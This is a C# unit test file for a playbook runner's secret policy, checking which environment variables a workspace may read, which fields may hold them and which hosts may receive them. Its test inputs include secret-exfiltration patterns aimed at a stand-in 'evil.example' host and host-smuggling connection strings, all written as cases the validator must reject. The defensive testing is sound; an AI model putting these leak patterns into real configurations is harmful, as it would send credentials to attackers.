using PlaybookRunner.Core.Loading;
using PlaybookRunner.Core.Sources;

namespace PlaybookRunner.Core.Tests.Loading;

/// <summary>
/// Which environment variables a workspace may read, where a secret may be written and where it may be
/// sent: the operator decides (PLAYBOOK_ALLOWED_ENV; this test run allows PB_* without hosts).
/// </summary>
public sealed class SecretPolicyTests
{
    private static IReadOnlyList<Core.Diagnostics.Diagnostic> Validate(string runner)
    {
        using var workspace = new TempWorkspace();
        workspace.Write("data.csv", "id\nA\n");
        workspace.Write("runner.yaml", runner);
        var file = workspace.Write("p.yaml", "playbook: p\nsource: { kind: csv, path: data.csv, key: id, fields: { id: string } }\nrules:\n  - { id: r, when: \"true\" }\n");
        return [.. TestEngine.Validate([file]).Diagnostics.Where(d => d.IsError)];
    }

    [Theory]
    [InlineData("HOME")]
    [InlineData("PATH")]
    [InlineData("AWS_SECRET_ACCESS_KEY")]
    [InlineData("PLAYBOOK_ALLOWED_ENV")]
    [InlineData("pb_lowercase")]
    public void A_variable_the_operator_did_not_allow_is_an_error_that_does_not_reveal_it(string name)
    {
        var errors = Validate($"channels:\n  hook: {{ kind: webhook, url: \"http://127.0.0.1:1/x\", headers: {{ Authorization: \"Bearer ${{env:{name}}}\" }} }}\n");

        var error = Assert.Single(errors);
        Assert.Equal(("PB1033", 2), (error.Id, error.Location.Line));
        Assert.Equal($"Environment variable '{name}' is not allowed for this workspace: the operator allows variables with PLAYBOOK_ALLOWED_ENV", error.Message);
        if (Environment.GetEnvironmentVariable(name) is { Length: > 3 } value)
        {
            Assert.DoesNotContain(value, error.Message, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void A_variable_the_operator_did_not_allow_is_never_read_even_when_asked_directly()
    {
        var secrets = new Secrets(TestEngine.Host());
        Assert.False(secrets.TryResolve("${env:HOME}", out var resolved, out var missing));
        Assert.Equal(("", "HOME"), (resolved, missing));
    }

    [Theory]
    [InlineData("channels:\n  hook: { kind: webhook, url: \"http://127.0.0.1:1/x?key=${env:PB_KEY}\" }\n", "url")]
    [InlineData("channels:\n  hook: { kind: webhook, url: \"http://127.0.0.1:1/leak/${env:PB_KEY}\" }\n", "url")]
    [InlineData("channels:\n  hook: { kind: webhook, url: \"http://${env:PB_KEY}.evil.example/x\" }\n", "url")]
    [InlineData("channels:\n  default: { kind: smtp, host: 127.0.0.1, from: \"${env:PB_KEY}@example.com\" }\n", "from")]
    [InlineData("channels:\n  default: { kind: smtp, host: \"${env:PB_KEY}\", from: a@example.com }\n", "host")]
    [InlineData("sources:\n  s: { kind: sqlite, path: s.db, query: \"SELECT '${env:PB_KEY}' AS id\", key: id, fields: { id: string } }\n", "query")]
    [InlineData("sources:\n  s: { kind: csv, path: \"${env:PB_KEY}.csv\", key: id, fields: { id: string } }\n", "path")]
    public void A_secret_outside_a_credential_field_is_an_error(string runner, string field)
    {
        var error = Assert.Single(Validate(runner), d => d.Id == "PB1032");
        Assert.Equal($"'${{env:PB_KEY}}' is not allowed in '{field}': environment variables go in credential fields only (connection, token, password, user, username, headers)", error.Message);
    }

    [Fact]
    public void Secrets_in_credential_fields_of_allowed_names_are_fine()
    {
        Assert.Empty(Validate("""
            channels:
              default: { kind: smtp, host: 127.0.0.1, from: a@example.com, username: "${env:PB_USER}", password: "${env:PB_PASSWORD}" }
              hook: { kind: webhook, url: "http://127.0.0.1:1/x", headers: { Authorization: "Bearer ${env:PB_TOKEN}" } }
            state: { kind: postgres, connection: "${env:PB_STATE}" }
            """));
    }

    [Theory]
    [InlineData("PB_T@api.example.com", "api.example.com:443", true)]
    [InlineData("PB_T@api.example.com", "API.example.com:443", true)]
    [InlineData("PB_T@api.example.com:443", "api.example.com:443", true)]
    [InlineData("PB_T@api.example.com:8443", "api.example.com:443", false)]
    [InlineData("PB_T@api.example.com", "api.example.com.evil.example:443", false)]
    [InlineData("PB_T@api.example.com", "evil.example:443", false)]
    [InlineData("PB_T@api.example.com", null, false)]
    [InlineData("PB_T@a.example@b.example", "b.example:80", true)]
    [InlineData("PB_T", "anywhere.example:80", true)]
    [InlineData("PB_*, PB_T@api.example.com", "evil.example:443", false)]
    [InlineData("PB_T@api.example.com, PB_*", "evil.example:443", false)]
    [InlineData("PB_T@smtp.example.com:587", "smtp.example.com:", false)]
    public void A_bound_secret_goes_to_its_hosts_only(string policy, string? destination, bool allowed)
    {
        var parsed = SecretPolicy.Parse(policy);
        Assert.True(parsed.Allows("PB_T"));
        Assert.Equal(allowed, SecretPolicy.Matches(destination?.ToLowerInvariant(), parsed.HostsOf("PB_T")));
    }

    [Theory]
    [InlineData("url", "https://api.example.com/v1/customers", "api.example.com:443")]
    [InlineData("url", "http://127.0.0.1:8085/tasks", "127.0.0.1:8085")]
    [InlineData("host", "smtp.example.com", "smtp.example.com:")]
    [InlineData("connection", "Host=db.example.com;Port=5433;Password=${env:PB_T}", "db.example.com:5433")]
    [InlineData("connection", "Server=evil.example;Password=${env:PB_T}", "evil.example:")]
    [InlineData("connection", "${env:PB_T}", null)]
    [InlineData("connection", "Host=127.0.0.1;Port=5432;Password=${env:PB_T};Server=127.0.0.2", null)]
    [InlineData("connection", "Server=127.0.0.2;Host=127.0.0.1;Password=${env:PB_T}", null)]
    [InlineData("connection", "Host=127.0.0.1,evil.example;Password=${env:PB_T}", null)]
    [InlineData("connection", "Host=db.example.com;Port=5432;Port=6543;Password=${env:PB_T}", null)]
    [InlineData("connection", "Host=db.example.com;Data Source=db.example.com;Password=${env:PB_T}", "db.example.com:")]
    [InlineData("url", "http://${env:PB_T}/x", null)]
    public void The_destination_is_read_from_the_settings_without_resolving_a_secret(string key, string value, string? destination)
    {
        Assert.Equal(destination, SecretPolicy.Destination(new Dictionary<string, string> { [key] = value }));
    }

    [Theory]
    [InlineData("PB_*", "PB_ANYTHING", true)]
    [InlineData("PB_*", "PBX", false)]
    [InlineData("A, B@h.example C", "C", true)]
    [InlineData("A, B@h.example C", "B", true)]
    [InlineData("", "A", false)]
    public void Names_and_prefixes(string policy, string name, bool allowed) =>
        Assert.Equal(allowed, SecretPolicy.Parse(policy).Allows(name));
}
